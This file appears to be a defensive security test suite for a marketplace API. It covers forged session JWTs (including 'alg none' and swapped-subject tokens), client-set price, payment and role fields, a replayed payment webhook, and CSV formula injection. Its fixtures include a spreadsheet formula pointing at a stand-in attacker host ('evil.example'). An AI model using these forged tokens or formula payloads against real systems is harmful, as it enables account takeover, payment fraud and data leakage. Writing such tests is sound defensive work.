// Security suite: tampering. What the feature suites already prove
// is not repeated here:
// - prices and amounts: features/bookings/create-booking.test.ts (booking price),
//   features/payments/process-payment.test.ts (payment amount),
//   features/referrals/referrals.test.ts (reward amount);
// - premium and role fields: features/auth/register.test.ts (premium at sign-up),
//   features/admin/admin.test.ts (premium changes from members);
// - user ids in bodies: features/chat/messages.test.ts (senderId), the
//   authorization matrix (profile-post userId, chat lookup ids, reward referrerId);
// - expired tokens: features/auth/session-expiry.test.ts; logout and password
//   change revoking tokens: features/auth/login.test.ts;
// - replayed webhooks: features/payments/webhook.test.ts (same event twice,
//   stale signature, a verify call racing the webhook).
// Added here: tokens altered, signed with another key or algorithm, or of the
// wrong kind; fields a client must never set on a booking, a payment or a
// profile; a webhook replayed after the booking was cancelled; and names that
// would run as formulas in the operator's spreadsheet of the finance CSV.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import jwt from 'jsonwebtoken';
import type { Booking } from '@marketplace/shared-api/types';
import { clientMoneyOf } from '../../features/payments/payment-test-helpers';
import { SETUP_COOKIE_NAME } from '../../plugins/setup-cookie';
import { describeEachDatabase, TEST_JWT_SECRET } from '../test-app';
import { securitySuite } from './security-app';

/** The token with its payload replaced and its signature kept. */
function withPayload(token: string, payload: object): string {
  const [header, , signature] = token.split('.');
  return [header, Buffer.from(JSON.stringify(payload)).toString('base64url'), signature].join('.');
}

describeEachDatabase('tampering', (kind) => {
  const s = securitySuite(kind);

  const verify = (headers: Record<string, string>) => s.t.app.inject({ url: '/api/users/verify', headers });
  const asBearer = (token: string) => ({ authorization: `Bearer ${token}` });

  it('refuses session tokens altered, signed with another key or algorithm, or of the wrong kind, with 401', async () => {
    s.world.reset();
    const me = await s.world.boss();
    const victim = await s.world.admin();
    const token = s.t.app.tokens.signSession(me.id);
    const claims = jwt.decode(token) as jwt.JwtPayload;
    const nowSeconds = claims.iat;
    assert.equal((await verify(asBearer(token))).statusCode, 200, 'the untouched token works');

    const forged: Record<string, string> = {
      'subject swapped, signature kept': withPayload(token, { ...claims, sub: victim.id }),
      'expiry pushed back, signature kept': withPayload(token, { ...claims, exp: claims.exp! + 365 * 24 * 3600 }),
      'signature of another key': jwt.sign({ purpose: 'session', sv: 0 }, 'another-secret-that-is-32-characters!!', { subject: victim.id, expiresIn: '1h' }),
      'alg none': jwt.sign({ purpose: 'session', sv: 0, sub: victim.id }, '', { algorithm: 'none' }),
      'HS512 with the right key': jwt.sign({ purpose: 'session', sv: 0 }, TEST_JWT_SECRET, { algorithm: 'HS512', subject: victim.id, expiresIn: '1h' }),
      'a profile-setup token as a bearer token': s.t.app.tokens.signSetup(victim.id),
      'a token of another session version': s.t.app.tokens.signSession(me.id, 5),
      'truncated signature': token.slice(0, -4),
      'no expiry': jwt.sign({ purpose: 'session', sv: 0, iat: nowSeconds }, TEST_JWT_SECRET, { subject: me.id }),
      'no session version': jwt.sign({ purpose: 'session', iat: nowSeconds }, TEST_JWT_SECRET, { subject: me.id, expiresIn: '1h' }),
      'no issued-at': jwt.sign({ purpose: 'session', sv: 0, exp: nowSeconds! + 3600 }, TEST_JWT_SECRET, { subject: me.id, noTimestamp: true }),
      'not before an hour from now': jwt.sign({ purpose: 'session', sv: 0 }, TEST_JWT_SECRET, { subject: me.id, notBefore: 3600, expiresIn: '2h' }),
    };
    // The same claims as the app issues, signed with its key: accepted (so the refusals above are for the missing claim).
    const wellFormed = jwt.sign({ purpose: 'session', sv: 0, iat: nowSeconds }, TEST_JWT_SECRET, { subject: me.id, expiresIn: '1h' });
    assert.equal((await verify(asBearer(wellFormed))).statusCode, 200);
    const answers = Object.fromEntries(await Promise.all(Object.entries(forged).map(async ([name, forgedToken]) => [name, (await verify(asBearer(forgedToken))).statusCode])));
    assert.deepEqual(answers, Object.fromEntries(Object.keys(forged).map((name) => [name, 401])));
  });

  it('does not take a session token as the profile-setup cookie', async () => {
    s.world.reset();
    const me = await s.world.boss();
    const picture = await s.world.uploadedImage(me, 'profile');
    const response = await s.t.app.inject({
      method: 'PUT',
      url: `/api/users/${me.id}/initial-profile-picture`,
      payload: { profilePicture: picture },
      headers: { cookie: `${SETUP_COOKIE_NAME}=${s.t.app.tokens.signSession(me.id)}` },
    });
    assert.equal(response.statusCode, 401, response.body);
  });

  it('refuses fields a client must never set (booking status, client, payment state, ids, premium) and writes nothing', async () => {
    s.world.reset();
    const owner = await s.world.boss();
    const other = await s.world.boss();
    const consultant = await s.world.assistant();
    const headers = await s.world.bearer(owner);
    const { booking } = await s.world.booking(owner);
    const tampered = {
      'booking for another client': { method: 'POST', url: '/api/bookings/create', payload: { ...s.world.bookingBody(consultant), clientId: other.id } },
      'booking born CONFIRMED': { method: 'POST', url: '/api/bookings/create', payload: { ...s.world.bookingBody(consultant), status: 'CONFIRMED' } },
      'booking born paid': { method: 'POST', url: '/api/bookings/create', payload: { ...s.world.bookingBody(consultant), paymentStatus: 'PAID' } },
      'booking priced in centavos of a peso': { method: 'POST', url: '/api/bookings/create', payload: s.world.bookingBody(consultant, { price: 4999.99 }) },
      'booking for free': { method: 'POST', url: '/api/bookings/create', payload: s.world.bookingBody(consultant, { price: 0 }) },
      'payment of a cheaper amount': { method: 'POST', url: '/api/payments/process', payload: { ...s.world.paymentBody(booking), amount: 1 } },
      'payment marked completed': { method: 'POST', url: '/api/payments/process', payload: { ...s.world.paymentBody(booking), status: 'completed' } },
      'payment for another payer': { method: 'POST', url: '/api/payments/process', payload: { ...s.world.paymentBody(booking), userId: other.id } },
      'status PAID on a booking': { method: 'PUT', url: `/api/bookings/${booking.id}/status`, payload: { status: 'PAID' } },
      'premium fee of another amount': { method: 'POST', url: '/api/payments/premium', payload: { method: 'gcash', accountNumber: '09171234567', amount: 1 } },
      'own premium set to Admin': {
        method: 'PUT',
        url: `/api/users/${owner.id}`,
        payload: { username: owner.username, email: owner.email, firstName: 'A', lastName: 'B', role: 'Boss', skills: [], premium: 'Admin' },
      },
      'own referral count raised': {
        method: 'PUT',
        url: `/api/users/${owner.id}`,
        payload: { username: owner.username, email: owner.email, firstName: 'A', lastName: 'B', role: 'Boss', skills: [], referralCount: 99 },
      },
    } as const;
    const answers: Record<string, number | string> = {};
    for (const [name, request] of Object.entries(tampered)) {
      const before = await s.countRows();
      const response = await s.t.app.inject({ ...request, headers });
      const after = await s.countRows();
      const changed = Object.keys(after).filter((table) => after[table] !== before[table]);
      answers[name] = changed.length > 0 ? `${response.statusCode}, wrote to ${changed.join(', ')}` : response.statusCode >= 400 && response.statusCode < 500 ? 'refused' : response.statusCode;
    }
    assert.deepEqual(answers, Object.fromEntries(Object.keys(tampered).map((name) => [name, 'refused'])));
    const [account] = await s.t.app.inject({ url: `/api/users/${owner.id}`, headers }).then((response) => [response.json<{ premium: string }>()]);
    assert.equal(account.premium, 'Not Verified');
    const unchanged = (await s.t.app.inject({ url: `/api/bookings/${booking.id}`, headers })).json<Booking>();
    assert.equal(unchanged.status, 'PENDING');
  });

  it('ignores a paid webhook replayed after the booking was cancelled: the booking stays cancelled and is not charged twice', async () => {
    s.world.reset();
    const owner = await s.world.boss();
    const headers = await s.world.bearer(owner);
    const { booking, checkoutPath } = await s.world.payment(owner);
    const cancelled = await s.t.app.inject({ method: 'PUT', url: `/api/bookings/${booking.id}/status`, payload: { status: 'CANCELLED' }, headers });
    assert.equal(cancelled.statusCode, 200, cancelled.body);
    // The payer approves the old checkout anyway (a replay of the payment step after cancelling).
    const approved = await s.t.app.inject({ method: 'POST', url: `${checkoutPath}/approve` });
    await s.t.app.background.drain();
    assert.ok(approved.statusCode < 500, approved.body);
    const state = (await s.t.app.inject({ url: `/api/bookings/${booking.id}`, headers })).json<Booking>();
    assert.equal(state.status, 'CANCELLED');
    assert.notEqual(state.paymentStatus, 'PAID');
    const money = await clientMoneyOf(s.t.database.db, { bookingId: booking.id });
    assert.ok(money.length <= 2, 'at most a capture and its refund are recorded');
    assert.equal(money.reduce((net, entry) => net + entry.amountCentavos, 0), 0, 'whatever was captured went back');
  });

  it('writes no cell of the finance CSV that a spreadsheet would run as a formula, whatever the people paid and paying are named', async () => {
    s.world.reset();
    const hyperlink = '=HYPERLINK("http://evil.example/?x","Open")';
    const owner = await s.world.boss({ firstName: hyperlink, lastName: '@SUM(A1)' });
    const consultant = await s.world.assistant({ firstName: '+1+1', lastName: '-2+3' });
    await s.world.paidBooking(owner, consultant);
    const admin = await s.world.admin();
    const response = await s.t.app.inject({ url: '/api/admin/finance/csv?from=2026-05-01&to=2026-06-30', headers: await s.world.bearer(admin) });
    assert.equal(response.statusCode, 200, response.body);
    const csv = response.body;
    assert.ok(csv.includes(`'=HYPERLINK(`), csv);
    assert.ok(csv.includes(`'+1+1 -2+3`), csv);
    // A field starts a line or follows a comma, quoted or not: none may start a formula (a signed amount is a number).
    const formulaStarts = csv.match(/(^|,)"?([=+@\t]|\r(?!\n)|-(?!\d+(\.\d+)?(,|\r\n)))[^,\r\n]*/gm) ?? [];
    assert.deepEqual(formulaStarts, []);
  });
});
